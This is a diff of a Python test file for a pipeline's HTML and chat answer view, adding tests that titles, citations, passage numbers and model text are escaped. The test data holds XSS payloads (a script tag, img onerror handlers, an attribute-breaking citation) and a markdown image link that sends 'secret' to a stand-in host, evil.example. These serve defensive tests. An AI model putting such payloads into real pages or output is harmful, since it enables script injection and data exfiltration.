@@ -10,7 +10,7 @@ from pipeline.events import EventKind, Status, Tracer
 from pipeline.routing import choose_method
 from ui.answer import answer_message
 from ui.traces import load_trace, markdown_report, save_trace
-from ui.view import RunView
+from ui.view import RunView, md_safe
 
 EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)>"
 
@@ -49,6 +49,32 @@ def test_text_from_passages_titles_and_answers_is_escaped():
     for html in (view.html(), answer_message(view, "run")):
         assert "<script>" not in html and "<img" not in html and "&lt;script&gt;" in html
         assert "href=" not in html  # urls are shown, never made into links
+
+
+def test_replayed_traces_cannot_inject_markup_through_titles_or_numbers():
+    tracer = Tracer("oner")
+    view = RunView()
+    view.add(tracer.event(EventKind.WARNING, EVIL, payload={"message": "something else"}))
+    view.add(tracer.event(EventKind.ANSWER, "Answer", id="a1", payload={
+        "answer": "See [1].", "citations": ["1\"><img src=x onerror=alert(1)>", 1],
+        "passages": [{"number": "<b>1</b>", "title": "t", "text": "x"}, passage(1)]}))
+    page, message = view.html(), answer_message(view, "run")
+    assert "&lt;script&gt;" in page  # the warning's title, shown as text
+    for html in (page, message):
+        assert "<img" not in html and "<script" not in html and "<b>" not in html
+    assert message.count('class="cite"') == 1  # only the real passage number became a button
+
+
+def test_markdown_in_model_and_passage_text_is_shown_literally():
+    sneaky = "![x](https://evil.example/?q=secret) [link](https://evil.example) *bold* `code` # head"
+    assert "![" not in md_safe(sneaky) and "](" not in md_safe(sneaky) and "*bold*" not in md_safe(sneaky)
+    assert md_safe("<b>'\"&") == "&lt;b&gt;&#39;&quot;&amp;"
+    tracer = Tracer("oner")
+    view = RunView()
+    view.add(tracer.event(EventKind.ANSWER, "Answer", id="a1", payload={
+        "answer": sneaky + " [1]", "citations": [1], "passages": [passage(1, sneaky)]}))
+    message = answer_message(view, "r")
+    assert "](" not in message and 'data-cite="r-1"' in message
 
 
 def test_updates_of_a_step_fold_into_one_node_and_chains_stay_flat():
@@ -91,6 +117,20 @@ def test_a_stopped_run_shows_interrupted_steps_and_the_notice():
     assert "The run was stopped." in answer_message(view, "r")
     view.close()
     assert "status-interrupted" in view.html() and 'data-state="done"' in view.html()
+    empty = RunView()
+    empty.close()
+    assert "No answer." in answer_message(empty, "r")
+
+
+def test_a_replayed_stopped_run_is_drawn_as_over(tmp_path):
+    tracer = Tracer("oner")
+    view = RunView()
+    view.add(tracer.event(EventKind.RETRIEVE, "Retrieve", id="r1", status=Status.RUNNING, payload={"query": "q"}))
+    view.add(tracer.event(EventKind.WARNING, "Stopped", payload={"message": "The run was stopped."}))
+    jsonl, _ = save_trace(view, "q", tmp_path)
+    replayed, _ = load_trace(jsonl)
+    assert 'data-state="done"' in replayed.html() and "status-interrupted" in replayed.html()
+    assert "rv-spin" not in replayed.html()
 
 
 def test_answer_message_makes_existing_citations_open_their_source():
@@ -99,7 +139,7 @@ def test_answer_message_makes_existing_citations_open_their_source():
         view.add(event)
     message = answer_message(view, "run1")
     assert 'class="cite"' in message and 'data-cite="run1-1"' in message
-    assert "[9]" in message and 'data-cite="run1-9"' not in message  # no such passage: left as text
+    assert "&#91;9&#93;" in message and 'data-cite="run1-9"' not in message  # no such passage: left as text
     assert message.count('<details class="source"') == 1 and "Paris is the capital." in message
 
 
